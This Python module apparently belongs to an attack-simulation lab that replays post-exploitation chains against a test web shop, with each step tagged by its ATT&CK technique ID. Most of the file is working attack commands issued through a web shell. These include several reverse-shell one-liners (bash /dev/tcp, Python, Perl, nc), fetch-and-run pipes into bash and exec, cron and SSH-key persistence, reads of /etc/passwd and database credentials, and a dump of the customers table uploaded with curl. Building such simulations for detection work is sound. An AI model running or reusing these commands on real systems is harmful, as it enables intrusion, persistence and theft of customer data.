"""Chains that begin at the hole in the web shop."""

from pathlib import Path

from foreseen.lab.accounts import forget_cron, forget_key, make_key
from foreseen.lab.attacks.tools import Attack, Listener
from foreseen.lab.channels import Login
from foreseen.lab.host import run
from foreseen.lab.layout import SYSTEM, TMP, VAR_TMP
from foreseen.lab.themes import token

SHOP_SQL = "-h 127.0.1.30 -p 5433 -U shop -d shop"


def webshell_dropper(attack: Attack) -> None:
    """Web shell, look around, fetch a program, make it executable, run it from /tmp, delete it."""
    path, address = attack.hidden(), attack.serve()
    attack.run.step("T1033")
    attack.web(attack.choose("id", "whoami;uname -a", "id;pwd;ls", "uname -a;cat /etc/issue"))
    attack.pause()
    attack.run.step("T1105")
    attack.web(attack.choose(f"curl -s {address} -o {path}", f"wget -q {address} -O {path}"))
    attack.pause()
    attack.run.step("T1222.002")
    attack.web(attack.choose(f"chmod +x {path}", f"chmod 755 {path}", f"chmod 0777 {path}"))
    attack.pause(0.3, 2)
    attack.run.step("T1059.004")
    attack.web(attack.choose(path, f"{path} -d", f"{path} > /dev/null 2>&1 &"))
    attack.pause()
    attack.run.step("T1070.004")
    attack.web(f"rm -f {path}")


def reverse_shell(attack: Attack) -> None:
    """Web shell opens a shell to a listener; the attacker types in it."""
    listener = Listener(attack)
    host, port = listener.address, listener.port
    pipe = attack.hidden(where=(TMP,))
    attack.run.step("T1059.004")
    python = (
        f'import socket,os,subprocess as p;s=socket.socket();s.connect(("{host}",{port}));'
        '[os.dup2(s.fileno(),n) for n in (0,1,2)];p.call(["/bin/sh","-i"])'
    )
    perl = (
        "use Socket;socket(S,PF_INET,SOCK_STREAM,6);"
        f'connect(S,sockaddr_in({port},inet_aton("{host}")));'
        'open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'
    )
    ways = (
        f"bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'",
        f"python3 -c '{python}'",
        f"mkfifo {pipe};sh -i < {pipe} 2>&1 | nc.openbsd {host} {port} > {pipe}",
        f"perl -e '{perl}'",
    )
    attack.web(ways[attack.run.number % len(ways)], wait=False)
    listener.accept()
    attack.pause()
    attack.run.step("T1082")
    for line in attack.rng.sample(
        ("id", "uname -a", "ls -la /srv", "cat /etc/passwd", "ps aux", "w"), 3
    ):
        listener.type(line, attack.rng.uniform(0.5, 3))
    attack.run.step("T1552.001")
    listener.type(
        attack.choose("cat /srv/shop/conf/database.env", "grep -r PG /srv/shop/conf"), 1.5
    )
    listener.close()


def cron_persistence(attack: Attack) -> None:
    """Web shell plants a script and a crontab line; cron starts it."""
    script = attack.hidden(where=(VAR_TMP, "/srv/shop/uploads", "/srv/shop/cache"))
    sink = attack.sink()
    attack.undo.append(lambda: forget_cron("web", script))
    attack.run.step("T1059.004")
    body = attack.choose(
        f"#!/bin/sh\\nid | curl -s -T - http://{sink}/s\\n",
        f"#!/bin/sh\\ncurl -s http://{sink}/c?h=$(hostname)\\n",
        f"#!/bin/sh\\n(ps aux; ss -tn) | gzip | curl -s --data-binary @- http://{sink}/p\\n",
    )
    attack.web(f"printf '{body}' > {script};chmod +x {script}")
    attack.pause()
    attack.run.step("T1053.003")
    attack.plant(script, "T1053.003")
    line = attack.choose(f"* * * * * {script}", f"*/1 * * * * /bin/sh {script} >/dev/null 2>&1")
    attack.web(f"(crontab -l;echo '{line}') | crontab -")
    attack.pause(66, 80)


def ssh_key_persistence(attack: Attack) -> None:
    """Web shell adds a key to authorized_keys; the attacker logs in with it."""
    key = SYSTEM / f"key-{attack.run.name}"
    make_key(key, token(attack.rng, 5))
    text = Path(f"{key}.pub").read_text().strip()
    attack.undo.append(lambda: forget_key("web", text))
    attack.run.step("T1033")
    attack.web(attack.choose("whoami;ls -la ~", "id;ls ~/.ssh", "cd;pwd;ls -a"))
    attack.pause()
    attack.run.step("T1098.004")
    attack.web(
        attack.choose(
            f"echo '{text}' >> ~/.ssh/authorized_keys",
            f"mkdir -p ~/.ssh;echo '{text}' | tee -a ~/.ssh/authorized_keys",
        )
    )
    attack.pause()
    attack.run.step("T1021.004")
    login = attack.login("web", key=key)
    for line in attack.rng.sample(
        ("id", "ls -la", "cat ~/.ssh/authorized_keys", "uname -a", "crontab -l"), 3
    ):
        login.type(line, attack.rng.uniform(0.8, 3))
    login.close()


def db_dump_exfil(attack: Attack) -> None:
    """Web shell dumps the customers' table and sends it away."""
    path, sink = attack.hidden(), attack.sink()
    attack.run.step("T1552.001")
    attack.web(attack.choose("cat conf/database.env", "env;cat /srv/shop/conf/*.env"))
    attack.pause()
    attack.run.step("T1005")
    attack.web(
        attack.choose(
            f"pg_dump {SHOP_SQL} -t customers -f {path}",
            f'psql {SHOP_SQL} -Atc "copy customers to stdout" > {path}',
            f'psql {SHOP_SQL} -c "table customers" -o {path}',
        )
    )
    attack.pause()
    attack.run.step("T1560.001")
    attack.web(f"gzip -f {path}")
    attack.run.step("T1048.003")
    attack.web(
        attack.choose(
            f"curl -s -T {path}.gz http://{sink}/u",
            f"curl -s -F f=@{path}.gz http://{sink}/",
            f"wget -q -O /dev/null --post-file={path}.gz http://{sink}/u",
        )
    )
    attack.pause()
    attack.run.step("T1070.004")
    attack.web(f"rm -f {path}.gz")


def download_exec_interpreter(attack: Attack) -> None:
    """Web shell pipes a script from the network into an interpreter."""
    mark = attack.hidden(where=(TMP,))
    lines = ("id", "uname -a", "ps aux | head -5", "ls /home")
    script = "".join(f"{line} >> {mark}\n" for line in lines) + f"rm -f {mark}\n"
    python = f"import os\nos.system('id > {mark}; ss -ltn >> {mark}; rm {mark}')\n"
    number = attack.run.number % 4
    address = attack.serve(python if number == 1 else script)
    ways = (
        f"curl -s {address} | bash",
        f"python3 -c 'import urllib.request as u;exec(u.urlopen(\"{address}\").read())'",
        f"wget -qO- {address} | sh",
        f'bash -c "$(curl -fsSL {address})"',
    )
    attack.run.step("T1105")
    attack.run.step("T1059.006" if number == 1 else "T1059.004")
    attack.web(ways[number])
    attack.pause()


def port_listener(attack: Attack) -> None:
    """Web shell opens a port; the attacker comes back through it."""
    address, port = "127.0.1.10", attack.port()
    ways = (
        f"timeout 25 socat TCP-LISTEN:{port},bind={address},reuseaddr EXEC:/bin/sh",
        f"cd /srv/shop;timeout 14 python3 -m http.server {port} -b {address}",
        f"timeout 14 nc.openbsd -l {address} {port} < conf/database.env",
    )
    number = attack.run.number % len(ways)
    attack.run.step("T1571")
    attack.web(ways[number], wait=False)
    attack.pause(1.5, 3)
    attack.run.step("T1059.004" if number == 0 else "T1005")
    given = ("id\nls -la\ncat /etc/passwd\n", "GET /conf/database.env HTTP/1.0\r\n\r\n", "")[number]
    run("socat", "-T", "3", "-", f"TCP:{address}:{port}", check=False, given=given)
    attack.pause()


def stolen_login(attack: Attack, *users: str) -> Login:
    """Log in as one of these users."""
    return attack.login(users[attack.run.number % len(users)])
